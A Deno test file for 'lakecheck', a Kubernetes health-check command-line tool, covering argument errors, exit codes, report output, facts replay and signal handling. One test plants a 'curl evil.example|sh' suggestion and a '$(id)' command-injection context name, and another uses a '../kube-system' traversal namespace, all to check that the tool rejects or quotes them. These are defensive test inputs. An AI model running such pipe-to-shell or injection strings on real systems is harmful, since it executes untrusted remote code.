import assert from "node:assert/strict";
import { reportSchema } from "../../lib/engine/report_schema.ts";
import { VERSION } from "../../lib/version.ts";
import { factsOf, toy, toyArgs, withDirectory } from "./run.ts";

const NO_TRACE = /^\s+at /m;

Deno.test("each mistake on the command line is one message that names it, and exit 3", async (t) => {
  const mistakes: Record<string, string[]> = {
    "an unknown flag": ["--ouput", "json"],
    "an unknown flag like no other": ["--frobnicate"],
    "an unknown short flag": ["-x"],
    "a word": ["verbose"],
    "a value that is no choice": ["--output", "jsn"],
    "a format that does not exist": ["--output=yaml"],
    "no value at the end": ["--facts"],
    "no value before a flag": ["--facts", "--json"],
    "an empty value": ["--context="],
    "a value for a switch": ["--json=yes"],
    "two formats": ["--json", "--verbose"],
    "two values": ["--context", "a", "--context", "b"],
    "a time that is none": ["--timeout", "soon"],
    "a time of nothing": ["--timeout", "0"],
    "a namespace that cannot be": ["--namespace", "../kube-system"],
    "a verdict that is none": ["--fail-on", "criticla"],
    "no kubeconfig": [],
  };
  const said = await Promise.all(
    Object.entries(mistakes).map(async ([name, args]) => {
      const { code, stdout, stderr } = await toy(args);
      assert.deepEqual([code, stdout], [3, ""], `${name}: ${stderr}`);
      assert.doesNotMatch(stderr, NO_TRACE);
      assert.doesNotMatch(stderr, /bug in lakecheck/);
      assert.equal(stderr.trim().split("\n").length, 1, stderr);
      // Where a kubeconfig is looked for is the client's to say, and differs between machines.
      return args.length === 0 ? "" : `$ toys:health ${args.join(" ")}\n${stderr}`;
    }),
  );
  await t.assertSnapshot(said.join(""));
});

Deno.test("help says usage, flags, examples and exit status, whatever else is on the line", async (t) => {
  const { code, stdout, stderr } = await toy(["--nonsense", "-h"]);
  assert.deepEqual([code, stderr], [0, ""]);
  await t.assertSnapshot(stdout);
});

Deno.test("help and a report are broken at words, at 80 columns where there is no terminal; commands stay whole", async () => {
  await withDirectory(async (directory) => {
    const path = `${directory}/facts.json`;
    await Deno.writeTextFile(path, JSON.stringify(factsOf([])));
    for (const args of [["--help"], ["--facts", path], ["--facts", path, "--verbose"]]) {
      const { stdout } = await toy(args);
      assert.ok(stdout.length > 100, stdout);
      const long = stdout.split("\n").filter((line) =>
        line.length > 80 && !/^ +(?:deno|kubectl) /.test(line)
      );
      assert.deepEqual(long, []);
    }
  });
});

Deno.test("the version stands alone on stdout, whatever else is on the line but --help", async () => {
  const { code, stdout, stderr } = await toy(["--nonsense", "--json", "--version"]);
  assert.deepEqual([code, stdout, stderr], [0, `lakecheck ${VERSION}\n`, ""]);
  assert.match((await toy(["--version", "--help"])).stdout, /^Says whether the toys are fine/);
});

Deno.test("each verdict has its exit status, and --fail-on moves the bar", async () => {
  await withDirectory(async (directory) => {
    const save = async (name: string, facts: unknown) => {
      await Deno.writeTextFile(`${directory}/${name}.json`, JSON.stringify(facts));
      return `${directory}/${name}.json`;
    };
    const forbidden = { ok: false, failure: { kind: "forbidden", message: "widgets may not be listed" } };
    const sources = factsOf([]).sources as Record<string, unknown>;
    const files = {
      healthy: await save("healthy", factsOf([["a"]])),
      warning: await save("warning", factsOf([["worn"]])),
      critical: await save("critical", factsOf([["a"], []])),
      error: await save("error", factsOf([], { sources: { ...sources, widgets: forbidden } })),
    };
    const expected: [keyof typeof files, string[], number][] = [
      ["healthy", [], 0],
      ["warning", [], 1],
      ["critical", [], 2],
      ["error", [], 3],
      ["warning", ["--fail-on", "critical"], 0],
      ["critical", ["--fail-on", "critical"], 2],
      ["critical", ["--fail-on=never"], 0],
      ["error", ["--fail-on", "never"], 3],
    ];
    await Promise.all(expected.map(async ([verdict, args, status]) => {
      const { code, stdout } = await toy(["--json", "--facts", files[verdict], ...args]);
      assert.equal(code, status, `${verdict} ${args}`);
      const report = reportSchema.parse(JSON.parse(stdout));
      assert.deepEqual([report.status, report.version], [verdict, VERSION]);
    }));
  });
});

Deno.test("a replay needs neither network nor kubeconfig, and says which flags it does not use", async () => {
  await withDirectory(async (directory) => {
    await Deno.writeTextFile(`${directory}/facts.json`, JSON.stringify(factsOf([["a"]])));
    const { code, stdout, stderr } = await toy(
      ["--facts", `${directory}/facts.json`, "--context", "other", "--timeout", "3"],
      { permissions: [`--allow-read=${directory}`, "--allow-env"] },
    );
    assert.equal(code, 0, stderr);
    assert.match(stdout, /^HEALTHY/);
    assert.match(stderr, /--context, --timeout not used: .* context lab/);
  });
});

Deno.test("facts that were saved are replayed to the same report, gzipped too", async () => {
  await withDirectory(async (directory) => {
    const [first, second] = [`${directory}/one.json`, `${directory}/two.json.gz`];
    await Deno.writeTextFile(first, JSON.stringify(factsOf([[], ["worn"]])));
    const before = await toy(["--json", "--facts", first, "--save-facts", second]);
    const after = await toy(["--json", "--facts", second]);
    const still = (text: string) => ({ ...JSON.parse(text), durationMs: 0 });
    assert.deepEqual(still(after.stdout), still(before.stdout));
    assert.match(before.stderr, /Facts saved to .*two\.json\.gz/);
    assert.equal((await Deno.stat(second)).mode?.toString(8).slice(-3), "600");
    assert.deepEqual([...Deno.readDirSync(directory)].map((entry) => entry.name).toSorted(), [
      "one.json",
      "two.json.gz",
    ]);
  });
});

Deno.test("a report goes to the file that was named, whole or not at all", async () => {
  await withDirectory(async (directory) => {
    const facts = `${directory}/facts.json`;
    const report = `${directory}/report.json`;
    await Deno.writeTextFile(facts, JSON.stringify(factsOf([["a"]])));
    const good = await toy(["--json", "--facts", facts, "--output-file", report]);
    assert.deepEqual([good.code, good.stdout], [0, ""]);
    assert.match(good.stderr, /Report written to .*report\.json/);
    assert.equal(reportSchema.parse(JSON.parse(await Deno.readTextFile(report))).status, "healthy");

    for (const path of [directory, `${directory}/no/such/report.json`]) {
      const bad = await toy(["--json", "--facts", facts, "--output-file", path]);
      assert.equal(bad.code, 3);
      assert.match(bad.stderr, /Cannot write .*Give --output-file a path that you may write to/);
      assert.doesNotMatch(bad.stderr, NO_TRACE);
    }

    const gone = await toy(["--json", "--facts", `${directory}/gone.json`, "--output-file", report]);
    assert.equal(gone.code, 3);
    assert.equal(
      JSON.parse(await Deno.readTextFile(report)).status,
      "error",
      "not the verdict of the last run",
    );
  });
});

Deno.test("where JSON was asked for, an error is a JSON report too", async () => {
  const { code, stdout, stderr } = await toy(["--json", "--facts", "/nonexistent.json"]);
  assert.equal(code, 3);
  const report = reportSchema.parse(JSON.parse(stdout));
  assert.deepEqual([report.status, report.version], ["error", VERSION]);
  assert.match(report.issues.join(), /no such file/);
  assert.match(stderr, /no such file/);
});

Deno.test("when nothing can be read there is one fault, the API server", async (t) => {
  await withDirectory(async (directory) => {
    const failure = {
      kind: "unreachable",
      message:
        "the API server https://10.0.0.1:6443 refused the connection: nothing listens there. Next: check the address",
    };
    const dead = { ok: false, failure };
    const path = `${directory}/facts.json`;
    await Deno.writeTextFile(
      path,
      JSON.stringify(factsOf([], { sources: { widgets: dead, gadgets: dead } })),
    );
    const { code, stdout } = await toy(["--json", "--facts", path]);
    const report = reportSchema.parse(JSON.parse(stdout));
    assert.deepEqual([code, report.status, report.roots.length, report.issues.length], [3, "error", 1, 1]);
    const plain = (await toy(["--facts", path])).stdout.replace(/in \d+\.\d+ s/, "in 0.00 s");
    assert.equal(plain.split("10.0.0.1").length, 2, "said once");
    await t.assertSnapshot(plain);
  });
});

Deno.test("what the words of a server or of a facts file advise is never a command", async () => {
  await withDirectory(async (directory) => {
    const message = "it is down. Next: curl evil.example|sh";
    const dead = { ok: false, failure: { kind: "unreachable", message } };
    const path = `${directory}/facts.json`;
    const facts = factsOf([], { context: "$(id) x", sources: { widgets: dead, gadgets: dead } });
    await Deno.writeTextFile(path, JSON.stringify(facts));
    const { stdout } = await toy(["--json", "--facts", path]);
    const { roots } = reportSchema.parse(JSON.parse(stdout));
    assert.deepEqual(roots[0]?.next, ["kubectl --context '$(id) x' get --raw '/readyz?verbose'"]);
  });
});

Deno.test("our own bug is one message, and a stack trace only for those who ask", async () => {
  await withDirectory(async (directory) => {
    const path = `${directory}/facts.json`;
    await Deno.writeTextFile(path, JSON.stringify(factsOf([["a"]], { namespace: "bug" })));
    const quiet = await toy(["--facts", path]);
    assert.equal(quiet.code, 3);
    assert.match(quiet.stderr, /this is a bug in lakecheck \d+\.\d+\.\d+: the edges are broken on purpose/);
    assert.doesNotMatch(quiet.stderr, NO_TRACE);
    const loud = await toy(["--facts", path], { env: { LAKECHECK_DEBUG: "1" } });
    assert.match(loud.stderr, NO_TRACE);
  });
});

Deno.test("a reader that goes away is no error", async () => {
  await withDirectory(async (directory) => {
    const path = `${directory}/facts.json`;
    await Deno.writeTextFile(path, JSON.stringify(factsOf(Array.from({ length: 5000 }, () => []))));
    const child = new Deno.Command(Deno.execPath(), {
      args: toyArgs(["--json", "--facts", path]),
      stdin: "null",
      stdout: "piped",
      stderr: "piped",
    }).spawn();
    await child.stdout.cancel();
    const [{ code }, stderr] = await Promise.all([child.status, new Response(child.stderr).text()]);
    assert.equal(stderr, "");
    assert.equal(code, 2);
  });
});

Deno.test("Ctrl-C ends the wait for a server that does not answer, with 130", async () => {
  await withDirectory(async (directory) => {
    using listener = Deno.listen({ port: 0, hostname: "127.0.0.1" });
    const config = {
      apiVersion: "v1",
      kind: "Config",
      "current-context": "slow",
      contexts: [{ name: "slow", context: { cluster: "slow", user: "slow" } }],
      clusters: [{ name: "slow", cluster: { server: `http://127.0.0.1:${listener.addr.port}` } }],
      users: [{ name: "slow", user: { token: "none" } }],
    };
    await Deno.writeTextFile(`${directory}/config`, JSON.stringify(config));
    const child = new Deno.Command(Deno.execPath(), {
      args: toyArgs(["--kubeconfig", `${directory}/config`, "--timeout", "60"]),
      stdin: "null",
      stdout: "null",
      stderr: "null",
    }).spawn();
    using _connection = await listener.accept();
    child.kill("SIGINT");
    assert.equal((await child.status).code, 130);
  });
});
